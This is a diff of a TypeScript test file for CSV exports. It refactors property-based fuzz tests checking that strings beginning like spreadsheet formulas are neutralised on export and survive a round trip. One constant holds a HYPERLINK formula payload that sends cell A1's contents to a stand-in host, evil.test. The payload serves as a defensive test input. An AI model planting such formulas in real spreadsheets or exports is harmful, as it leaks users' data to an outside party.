@@ -2,7 +2,7 @@ import { parse } from 'csv-parse/sync';
 import fc from 'fast-check';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { setupTestApp, type TestContext, type TestStore } from '../../test/helpers.js';
-import { importCsv } from '../../test/support/csv.fixtures.js';
+import { importCsv, propertyRuns, shopifyExport } from '../../test/support/csv.fixtures.js';
 
 /**
  * Spreadsheet safety (docs/exports.md): every CSV export writes a text cell a spreadsheet would run as a
@@ -10,8 +10,7 @@ import { importCsv } from '../../test/support/csv.fixtures.js';
  * strings that begin with `=`, `+`, `-`, `@`, a tab, a CR or an apostrophe survive export → import. The
  * property runs 12 times per resource (FUZZ_RUNS overrides, FUZZ_SEED replays a failure).
  */
-const RUNS = Number(process.env.FUZZ_RUNS ?? 12);
-const SEED = process.env.FUZZ_SEED === undefined ? undefined : Number(process.env.FUZZ_SEED);
+const RUNS = propertyRuns(12);
 
 let t: TestContext;
 beforeAll(async () => {
@@ -22,15 +21,7 @@ afterAll(async () => t?.close());
 const FABRIC = 'Fabric (product.metafields.custom.fabric)';
 const HYPERLINK = '=HYPERLINK("http://evil.test/?x="&A1,"click")';
 
-const exportOf = async (store: TestStore, resource: string) => {
-  const reply = await t.app.inject({
-    method: 'GET',
-    url: `/api/v1/exports/${resource}?format=shopify`,
-    headers: { authorization: `Bearer ${store.token}` },
-  });
-  expect(reply.statusCode).toBe(200);
-  return reply.body;
-};
+const exportOf = (store: TestStore, resource: string) => shopifyExport(t, store, resource);
 const rowsOf = (body: string) => parse(body, { columns: true }) as Record<string, string>[];
 const list = async (store: TestStore, path: string) =>
   (await t.call(store, 'GET', `${path}?limit=100`)).body.data as Record<string, unknown>[];
@@ -123,7 +114,7 @@ describe('formulas in CSV exports', () => {
 });
 
 describe('round trip of generated strings that begin like formulas', () => {
-  it(`products: title, vendor, type, tags, description, customFields (${RUNS} catalogs)`, { timeout: 600_000 }, async () => {
+  it(`products: title, vendor, type, tags, description, customFields (${RUNS.numRuns} catalogs)`, { timeout: 600_000 }, async () => {
     await fc.assert(
       fc.asyncProperty(
         fc.uniqueArray(
@@ -166,11 +157,11 @@ describe('round trip of generated strings that begin like formulas', () => {
           expect(byHandle(await list(to, '/products'))).toEqual(byHandle(await list(from, '/products')));
         },
       ),
-      { numRuns: RUNS, seed: SEED },
+      RUNS,
     );
   });
 
-  it(`customers: names and customFields keys and values (${RUNS} stores)`, { timeout: 600_000 }, async () => {
+  it(`customers: names and customFields keys and values (${RUNS.numRuns} stores)`, { timeout: 600_000 }, async () => {
     await fc.assert(
       fc.asyncProperty(
         fc.uniqueArray(fc.record({ firstName: kept, lastName: kept, key, value: kept }), {
@@ -200,7 +191,7 @@ describe('round trip of generated strings that begin like formulas', () => {
           expect(shape(await list(to, '/customers'))).toEqual(shape(await list(from, '/customers')));
         },
       ),
-      { numRuns: RUNS, seed: SEED },
+      RUNS,
     );
   });
 });
